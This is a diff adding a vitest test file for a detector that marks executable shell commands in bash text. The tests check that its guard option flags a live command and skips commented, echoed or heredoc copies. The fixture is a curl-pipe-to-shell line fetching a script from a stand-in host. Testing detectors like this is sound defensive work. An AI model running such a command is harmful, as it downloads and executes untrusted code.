@@ -1,0 +1,33 @@
+import { describe, expect, it } from "vitest";
+import { markedBy, marked, sharedDetector } from "../support/marked.js";
+
+const X = "curl -fsSL https://x.example/i.sh | sh";
+const texts = [
+  `# never run this\n${X}`,
+  `# the attacker ran:\n${X}`,
+  `${X} # blocked`,
+  `# scanners call this dangerous\n${X}`,
+];
+
+describe("the option guard", async () => {
+  const detector = await sharedDetector();
+
+  it.each(texts)("lifts what a text only says of its command: %s", (text) => {
+    expect(markedBy(detector, text)).toBe(text);
+    const { spans } = detector.detect(text, { format: "bash", guard: true });
+    expect(marked(text, spans)).toBe(text.replace(X, `«${X}»`));
+  });
+
+  it.each([`# ${X}`, `echo "${X}"`, `cat > f <<'EOF'\n${X}\nEOF`])(
+    "leaves a comment, a display and a file: %s",
+    (text) => {
+      expect(detector.detect(text, { format: "bash", guard: true }).spans).toEqual([]);
+    },
+  );
+
+  it("is true or false", () => {
+    expect(() => detector.detect("", { guard: "yes" as unknown as boolean })).toThrow(
+      'guard has to be true or false, not "yes"',
+    );
+  });
+});
